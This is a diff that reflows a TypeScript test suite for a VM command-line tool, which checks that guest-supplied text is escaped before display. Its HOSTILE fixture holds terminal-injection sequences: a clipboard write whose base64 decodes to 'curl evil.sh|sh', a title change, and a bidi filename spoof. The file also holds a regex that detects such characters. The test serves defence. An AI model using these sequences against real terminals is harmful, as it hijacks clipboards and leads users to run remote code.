@@ -18,21 +18,38 @@ import { sampleVm } from '../../test/fixtures/vms.js';
  */
 
 /** An OSC 52 clipboard write, a screen clear, a title change, a lone \r, an 8-bit CSI, a bidi override, an isolate and a lone surrogate, around plain UTF-8. */
-const HOSTILE = 'nginx\u001b]52;c;Y3VybCBldmlsLnNofHNo\u0007\u001b[2J\u001b]0;owned\u001b\\\rfake\u009b31m \u202etxt.exe\u2066x\u2069\ud800 café 日本 😀';
+const HOSTILE =
+  'nginx\u001b]52;c;Y3VybCBldmlsLnNofHNo\u0007\u001b[2J\u001b]0;owned\u001b\\\rfake\u009b31m \u202etxt.exe\u2066x\u2069\ud800 café 日本 😀';
 const PATCH = `From ${'a'.repeat(40)} Mon Sep 17 00:00:00 2001\nSubject: [PATCH] x\n\n--- a/f\n+++ b/f\n@@ -1 +1 @@\n-old\r\n+${HOSTILE}\r\n`;
 
 /** Any character a terminal could act on; \n and \t are the only controls allowed, and \r only before \n. */
-const UNSAFE = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]|\r(?!\n)/u;
+const UNSAFE =
+  /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]|\r(?!\n)/u;
 
 function assertSafe(text: string, what: string): void {
   const m = UNSAFE.exec(text);
-  assert.equal(m, null, `${what}: U+${m?.[0].codePointAt(0)?.toString(16).padStart(4, '0')} at ${m?.index} reached the output: ${JSON.stringify(text)}`);
+  assert.equal(
+    m,
+    null,
+    `${what}: U+${m?.[0].codePointAt(0)?.toString(16).padStart(4, '0')} at ${m?.index} reached the output: ${JSON.stringify(text)}`,
+  );
   // The UTF-8 around it is intact.
   assert.match(text, /café 日本 😀/, `${what} keeps plain UTF-8`);
 }
 
 function memoryOutput(isTty: boolean): Output & { stdout: string; stderr: string } {
-  const o = { stdout: '', stderr: '', colour: false, isTty, out(t: string) { o.stdout += t; }, err(t: string) { o.stderr += t; } };
+  const o = {
+    stdout: '',
+    stderr: '',
+    colour: false,
+    isTty,
+    out(t: string) {
+      o.stdout += t;
+    },
+    err(t: string) {
+      o.stderr += t;
+    },
+  };
   return o;
 }
 
@@ -49,28 +66,74 @@ before(async () => {
   const handlers: Partial<Handlers<typeof METHODS>> = {
     'vm.ports': async () => ({
       ports: [
-        { vm: 'dev', proto: 'tcp', address: `0.0.0.0\n${HOSTILE}`, port: 80, pid: 42, process: HOSTILE, endpoint: 'dev.vm:80', url: 'http://dev.vm:80/' },
-        { vm: 'dev', proto: 'udp', address: '127.0.0.1', port: 53, pid: null, process: null, endpoint: null, url: null },
+        {
+          vm: 'dev',
+          proto: 'tcp',
+          address: `0.0.0.0\n${HOSTILE}`,
+          port: 80,
+          pid: 42,
+          process: HOSTILE,
+          endpoint: 'dev.vm:80',
+          url: 'http://dev.vm:80/',
+        },
+        {
+          vm: 'dev',
+          proto: 'udp',
+          address: '127.0.0.1',
+          port: 53,
+          pid: null,
+          process: null,
+          endpoint: null,
+          url: null,
+        },
       ],
     }),
     'vm.show': async () => ({
-      vm, runtime: {
-        pid: 7, vmm: 'qemu', status: 'running', startedAt: '2026-01-01T00:00:00.000Z', tap: 'tap0',
-        agent: { health: { boot_id: HOSTILE, uptime_s: 5, hostname: HOSTILE, agent_version: HOSTILE, protocol: 1, transport: HOSTILE, pid: 1 } },
+      vm,
+      runtime: {
+        pid: 7,
+        vmm: 'qemu',
+        status: 'running',
+        startedAt: '2026-01-01T00:00:00.000Z',
+        tap: 'tap0',
+        agent: {
+          health: {
+            boot_id: HOSTILE,
+            uptime_s: 5,
+            hostname: HOSTILE,
+            agent_version: HOSTILE,
+            protocol: 1,
+            transport: HOSTILE,
+            pid: 1,
+          },
+        },
       },
     }),
     'vm.list': async () => ({ vms: [vm] }),
     'vm.workspace.export': async ({ name }) => {
-      if (name === 'broken') throw new BangerError('operation_failed', `VM broken: export failed: ${HOSTILE}`, { hint: `last console lines:\n${HOSTILE}` });
+      if (name === 'broken')
+        throw new BangerError('operation_failed', `VM broken: export failed: ${HOSTILE}`, {
+          hint: `last console lines:\n${HOSTILE}`,
+        });
       return { patch: PATCH, base: 'b'.repeat(40) };
     },
-    'vm.logs': async ({ offset }) => ({ text: offset === 0 ? `[    0.000000] Linux\r\n${HOSTILE}\r\n` : '', offset: 99, vmmLog: '/dev/null' }),
+    'vm.logs': async ({ offset }) => ({
+      text: offset === 0 ? `[    0.000000] Linux\r\n${HOSTILE}\r\n` : '',
+      offset: 99,
+      vmmLog: '/dev/null',
+    }),
     'vm.workspace.prepare': async (_p, ctx) => {
       ctx.progress('workspace', `HEAD ${HOSTILE}`);
       return { bytes: 1, ms: 1, files: 1, vm };
     },
   };
-  server = new RpcServer({ socketPath: layout.daemonSocket, methods: METHODS, handlers: handlers as Handlers<typeof METHODS>, log: silentLogger, operations: new OperationRegistry() });
+  server = new RpcServer({
+    socketPath: layout.daemonSocket,
+    methods: METHODS,
+    handlers: handlers as Handlers<typeof METHODS>,
+    log: silentLogger,
+    operations: new OperationRegistry(),
+  });
   await server.listen();
 });
 
@@ -90,14 +153,22 @@ test('vm ports: process names and addresses from the agent are escaped to one li
     const r = await banger(['vm', 'ports'], tty);
     assert.equal(r.code, 0, r.stderr);
     assertSafe(r.stdout, 'vm ports');
-    assert.equal(r.stdout.trimEnd().split('\n').length, 3, 'a header and two rows: a \\n from the guest does not make a row');
+    assert.equal(
+      r.stdout.trimEnd().split('\n').length,
+      3,
+      'a header and two rows: a \\n from the guest does not make a row',
+    );
     assert.match(r.stdout, /nginx\\x1b\]52;c;Y3VybCBldmlsLnNofHNo\\x07\\x1b\[2J/);
     assert.match(r.stdout, /\\rfake\\x9b31m \\u202etxt\.exe\\u2066x\\u2069\\ud800 café/);
     assert.match(r.stdout, /0\.0\.0\.0\\nnginx/);
   }
   const j = await banger(['vm', 'ports', '--json'], true);
   assertSafe(j.stdout, 'vm ports --json');
-  assert.equal(JSON.parse(j.stdout)[0].process, HOSTILE, '--json carries the same value, only spelled with \\u escapes');
+  assert.equal(
+    JSON.parse(j.stdout)[0].process,
+    HOSTILE,
+    '--json carries the same value, only spelled with \\u escapes',
+  );
 });
 
 test('vm show: the agent health and the last error are escaped', async () => {
